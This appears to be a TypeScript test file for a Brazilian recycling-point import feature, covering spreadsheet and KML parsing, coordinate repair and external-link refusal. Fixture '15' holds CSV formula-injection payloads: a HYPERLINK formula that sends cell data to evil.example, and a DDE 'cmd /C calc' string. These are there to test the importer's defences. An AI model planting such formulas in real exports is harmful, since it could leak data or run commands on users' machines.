import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ImportMapping } from '@separai/contract/imports/fields';
import { namesPoints } from '@separai/contract/imports/fields';
import { proposeMapping } from '@separai/contract/imports/proposal';
import { type ReadRow, readRow } from '@separai/contract/imports/rules';
import { expect, test } from 'vitest';
import { readImportFile } from './file-reading.ts';

const folder = join(import.meta.dirname, '../../../test/inputs');

/** The cells of a file as it is read, what is known of it as a whole, and the columns that are proposed for it. */
const opened = async (prefix: string) => {
  const name = readdirSync(folder).find((one) => one.startsWith(prefix)) ?? prefix;
  const cells: Record<string, string>[] = [];
  const facts = await readImportFile({ path: join(folder, name), subject: 'points' }, async ({ json }) => {
    for (const row of JSON.parse(json) as { cells: Record<string, string> }[]) cells.push(row.cells);
  });
  const columns = facts.columns.map((column) => column.name);
  return { cells, facts, proposed: proposeMapping(columns, { name, format: facts.format }) };
};

/** The rows of a file, read with the proposed columns and with what a person chose besides. */
const understood = async (
  prefix: string,
  chosen: (proposed: ImportMapping) => Partial<ImportMapping> = () => ({}),
): Promise<ReadRow[]> => {
  const { cells, facts, proposed } = await opened(prefix);
  return cells.map((one) => readRow(one, { ...proposed, ...chosen(proposed) }, facts.system));
};

const near = (latitude: number, longitude: number) => ({
  latitude: expect.closeTo(latitude, 4),
  longitude: expect.closeTo(longitude, 4),
});
const fatima = { name: 'Ecoponto Fátima', ...near(-3.7526, -38.5327) };
const boaVista = near(2.8204, -60.6703);

const points = [
  ['01', [{ ...fatima, address: 'Av. Eduardo Girão, 989', phone: '(85) 3452-1234' }]],
  ['02', [{ ...fatima, address: 'Av. Eduardo Girão 989', materials: ['papel', 'vidro'] }]],
  [
    '03',
    [
      { name: 'Ecoponto Fátima', latitude: -3.75 },
      { name: 'Ecoponto Varjota', longitude: -38.49 },
    ],
  ],
  ['05', [{ name: 'Ecoponto São João', schedule: 'Seg a sex 8h às 17h' }]],
  ['07', [{ name: 'Ecoponto A' }, { name: 'Ecoponto B' }, null]],
  ['08', [near(-3.7526, -38.5327), near(-3.7441, -38.5424)]],
  [
    '09',
    [
      {
        name: 'Ecoponto A',
        address: 'Rua A, 1',
        schedule: 'Seg a sex 8h às 17h',
        materials: ['papel', 'vidro'],
        latitude: -3.75,
      },
    ],
  ],
  [
    '10',
    [
      {
        name: 'Ecoponto A',
        address: 'Rua A, 1, esquina',
        schedule: 'Seg a sex 8h às 17h',
        phone: '3452-1234',
        latitude: -3.75,
      },
    ],
  ],
  ['12', [{ name: 'Ecoponto A', ...near(-3.7172, -38.5431) }]],
  ['13', [{ name: 'Ecoponto "A"' }, { address: 'Rua B, 2 fundos' }]],
  ['14', [{ phone: '3452-1111', latitude: -3.75 }]],
  [
    '15',
    [
      {
        name: '=HYPERLINK("http://evil.example/?"&A1,"clique")',
        address: '+5585988887777',
        latitude: -3.75,
        description: "@SUM(1+1)*cmd|'/C calc'!A0",
      },
    ],
  ],
  ['21', [fatima]],
  ['22', [boaVista]],
  ['23', [fatima]],
  ['30', [{ name: 'Ecoponto A', address: 'Av. Eduardo Girão, 989 - Fátima, Fortaleza - CE' }]],
  ['32', [{ name: 'Ecoponto A', address: 'Rua A, 1', latitude: -3.75 }]],
  ['06', [{ name: 'Ecoponto São João', address: 'Rua João XXIII, 10', latitude: -3.75 }]],
  ['34', [{ name: 'Ecoponto A', latitude: -3.75 }]],
  ['24', [{ name: 'Ecoponto A', address: 'Rua A, 1', latitude: -3.75 }]],
  [
    '25',
    [
      { name: 'Ecoponto A', longitude: -38.53 },
      { name: 'Ecoponto B', longitude: -38.52 },
    ],
  ],
] as const;

test.each(points)('file %s tells its points with no column chosen by a person', async (prefix, told) => {
  const rows = await understood(prefix);
  expect(rows.map(({ point }) => point)).toEqual(told.map((one) => (one === null ? null : expect.objectContaining(one))));
});

test.each([
  ['21', fatima],
  ['22', boaVista],
])('file %s is placed by the name of its reference system in the file as in the row', async (prefix, place) => {
  const { cells, facts, proposed } = await opened(prefix);
  const { SCR: _scr, SRC: _src, ...unnamed } = cells[0] ?? {};
  expect(readRow(unnamed, proposed, facts.system).point).toMatchObject(place);
  expect(readRow(cells[0] ?? {}, proposed, '').point).toMatchObject(place);
  expect(readRow(unnamed, proposed, '').point).toBeNull();
});

test('the folder of a map is a column that can be meant as the material', async () => {
  const [row] = await understood('32', ({ columns }) => ({ columns: { ...columns, materials: ['Pasta'] } }));
  expect(row?.point).toMatchObject({ name: 'Ecoponto A', materials: ['vidro'] });
});

test('the minus sign that a column lost is offered for the whole column, and puts its places where they are', async () => {
  const [row] = await understood('11');
  expect(row?.problems).toEqual({ latitude: 'As coordenadas ficam fora do Brasil: falta o sinal de menos?' });
  expect(row?.missingMinus).toEqual(['latitude', 'longitude']);
  const [placed] = await understood('11', () => ({ minus: ['latitude', 'longitude'] }));
  expect(placed).toMatchObject({ point: { name: 'Ecoponto A', latitude: -3.7526, longitude: -38.5326 }, missingMinus: [] });
  const [atSea] = await understood('11', () => ({ minus: ['longitude'] }));
  expect(atSea).toMatchObject({ point: null, missingMinus: ['latitude'] });
});

test('where no column is the name or the address the columns are asked for, and one answer is enough', async () => {
  expect(namesPoints((await opened('31')).proposed)).toBe(false);
  const rows = await understood('31', ({ columns }) => ({ columns: { ...columns, address: ['description'] } }));
  expect(rows.map(({ point }) => point)).toMatchObject([
    { name: 'Ponto de coleta – Rua A', address: 'Rua A, 1 - Centro', latitude: -3.75 },
    { name: 'Ecoponto B', address: 'Rua B, 2', latitude: -3.74 },
  ]);
});

test('areas and lines are left out and said to be such, unless their middle is chosen', async () => {
  const rows = await understood('33');
  expect(rows.map(({ point, problems }) => point?.name ?? problems.latitude)).toEqual([
    'É uma área do mapa, e não um ponto.',
    'É uma linha do mapa, e não um ponto.',
    'Ecoponto A',
  ]);
  expect(rows.filter(({ isExtended }) => isExtended)).toHaveLength(2);
  const placed = await understood('33', () => ({ takesMiddles: true }));
  expect(placed.map(({ point, notes }) => [point?.latitude, point?.longitude, ...notes])).toEqual([
    [expect.closeTo(-3.7467, 4), expect.closeTo(-38.5233, 4), 'O lugar é o meio de uma área do mapa.', expect.any(String)],
    [-3.745, expect.closeTo(-38.525, 6), 'O lugar é o meio de uma linha do mapa.', expect.any(String)],
    [-3.75, -38.53, expect.any(String)],
  ]);
});

test('a telephone that a spreadsheet shortened is left out, and said', async () => {
  const [row] = await understood('04');
  expect(row?.point).not.toHaveProperty('phone');
  expect(row?.notes).toEqual(['O telefone ficou de fora: a planilha o encurtou (5,58534E+11).']);
});

test('of a feature of several places each is a row, a collection of one is that place, and none is a middle', async () => {
  const rows = await understood('20');
  expect(rows.map(({ point }) => point && [point.name, point.latitude, point.longitude])).toEqual([
    ['Sem geometria', undefined, undefined],
    ['MultiPoint 3D', -3.75, -38.53],
    ['Dois lugares', -3.75, -38.53],
    ['Dois lugares', -3.8, -38.6],
    null,
    ['Coleção', -3.7, -38.5],
    ['Vazio', undefined, undefined],
  ]);
});

test('a link to a map elsewhere is named and never followed: beside rows as a warning, alone as the refusal', async () => {
  let requests = 0;
  const elsewhere = createServer(() => requests++).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  const { port } = elsewhere.address() as AddressInfo;
  const link = `<NetworkLink><name>Lista</name><Link><href>http://127.0.0.1:${port}/mapa?chave=segredo</href></Link></NetworkLink>`;
  const own = await mkdtemp(join(tmpdir(), 'separai-links-'));
  const read = async (content: string) => {
    const path = join(own, 'mapa.kml');
    await writeFile(path, `<kml><Document><name>Mapa</name>${content}</Document></kml>`);
    return readImportFile({ path, subject: 'points' }, async () => {});
  };
  const named = `O link “Lista” leva a 127.0.0.1:${port}`;
  expect((await read(`${link}<Placemark><name>A</name></Placemark>`)).warnings).toEqual([
    `${named}: não o lemos. Baixe o que está lá e importe também.`,
  ]);
  await expect(read(link)).rejects.toMatchObject({ code: 'import-link-outside', fields: { file: `${named}.` } });
  await expect(read('<NetworkLink><Link><href>files/b.kml</href></Link></NetworkLink>')).rejects.toMatchObject({
    fields: { file: expect.stringContaining('O link de rede leva a files/b.kml, que não está no arquivo') },
  });
  expect(requests).toBe(0);
  elsewhere.close();
  await rm(own, { recursive: true });
});

test('a document type is the reason that is told', async () => {
  await expect(understood('35')).rejects.toMatchObject({ code: 'import-file-doctype' });
});
